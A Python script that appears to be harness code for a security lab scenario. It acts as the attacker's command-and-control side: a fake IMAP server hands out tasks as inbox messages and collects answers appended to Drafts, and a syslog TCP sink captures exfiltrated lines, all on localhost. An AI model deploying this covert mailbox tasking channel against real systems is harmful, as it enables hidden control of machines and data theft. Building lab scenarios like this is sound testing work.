#!/usr/bin/python3
"""The attacker's side of scenario-plotbook-noticepreview (runs as labremote):
an IMAP4 mailbox server (127.0.0.1:1143) whose INBOX holds the tasks (files
DIR/tasks/NNN, one message each) and whose Drafts folder receives the answers
(APPEND -> DIR/out/NNN), and a syslog-over-TCP sink (127.0.0.1:5514,
octet-counted or newline-framed messages -> DIR/syslog.txt).
  plotbook-c2.py DIR [--max-seconds N]"""
import os, re, socket, sys, threading, time

D = sys.argv[1]
MAX = int(sys.argv[sys.argv.index("--max-seconds") + 1]) if "--max-seconds" in sys.argv else 1500
os.makedirs(D + "/tasks", exist_ok=True); os.makedirs(D + "/out", exist_ok=True)
lock = threading.Lock()
delivered = set()


def log(m):
    with lock, open(D + "/c2.log", "a") as f:
        f.write("%s %s\n" % (time.strftime("%H:%M:%S"), m))


def tasks():
    return sorted(n for n in os.listdir(D + "/tasks") if n.isdigit())


def imap(c, peer):
    log("imap connection from %s" % (peer,))
    f = c.makefile("rb")
    w = lambda s: c.sendall(s if isinstance(s, bytes) else s.encode())
    w("* OK [CAPABILITY IMAP4rev1] mail.hollins-cloud.lab ready\r\n")
    last = None
    while True:
        line = f.readline()
        if not line:
            break
        parts = line.decode(errors="replace").rstrip("\r\n").split(" ", 2)
        tag, cmd = parts[0], (parts[1].upper() if len(parts) > 1 else "")
        arg = parts[2] if len(parts) > 2 else ""
        if cmd == "CAPABILITY":
            w("* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n%s OK CAPABILITY completed\r\n" % tag)
        elif cmd == "LOGIN":
            log("login %s" % arg.split(" ")[0]); w("%s OK LOGIN completed\r\n" % tag)
        elif cmd in ("SELECT", "EXAMINE"):
            w("* %d EXISTS\r\n* 0 RECENT\r\n* FLAGS (\\Seen)\r\n%s OK [READ-WRITE] SELECT completed\r\n" % (len(tasks()), tag))
        elif cmd == "SEARCH":
            with lock:
                ids = [str(i + 1) for i, n in enumerate(tasks()) if n not in delivered]
            w("* SEARCH%s\r\n%s OK SEARCH completed\r\n" % ("".join(" " + i for i in ids), tag))
        elif cmd == "FETCH":
            i = int(arg.split(" ")[0]); n = tasks()[i - 1]
            with lock:
                delivered.add(n)
            body = open(D + "/tasks/" + n, "rb").read()
            msg = b"From: ops@hollins-cloud.lab\r\nSubject: sa report " + n.encode() + b"\r\n\r\n" + body
            w(b"* %d FETCH (RFC822 {%d}\r\n" % (i, len(msg)) + msg + b")\r\n" + tag.encode() + b" OK FETCH completed\r\n")
            last = n; log("task %s fetched: %s" % (n, body.decode(errors="replace").strip()[:200]))
        elif cmd == "STORE" or cmd == "NOOP" or cmd == "CHECK":
            w("%s OK %s completed\r\n" % (tag, cmd))
        elif cmd == "APPEND":
            m = re.search(r"\{(\d+)\}$", arg)
            size = int(m.group(1)) if m else 0
            w("+ Ready for literal data\r\n")
            data = f.read(size); f.readline()
            body = data.split(b"\r\n\r\n", 1)[-1]
            with open(D + "/out/" + (last or "000"), "ab") as o:
                o.write(body)
            log("answer to %s: %d bytes" % (last, len(body)))
            w("%s OK APPEND completed\r\n" % tag)
        elif cmd == "LOGOUT":
            w("* BYE\r\n%s OK LOGOUT completed\r\n" % tag); break
        else:
            w("%s BAD unknown command\r\n" % tag)
    log("imap connection from %s closed" % (peer,))
    c.close()


def syslog(c, peer):
    log("syslog connection from %s" % (peer,))
    n = 0
    with open(D + "/syslog.txt", "ab") as o:
        for line in c.makefile("rb"):
            o.write(line); n += 1
    log("syslog connection from %s closed: %d lines" % (peer, n))
    c.close()


def serve(port, fn):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", port)); s.listen(8)
    while True:
        c, a = s.accept()
        threading.Thread(target=fn, args=(c, a), daemon=True).start()


for p, fn in ((1143, imap), (5514, syslog)):
    threading.Thread(target=serve, args=(p, fn), daemon=True).start()
log("listening: imap 127.0.0.1:1143, syslog 127.0.0.1:5514")
t0 = time.time()
while time.time() - t0 < MAX and not os.path.exists(D + "/stop"):
    time.sleep(1)
log("stopping")
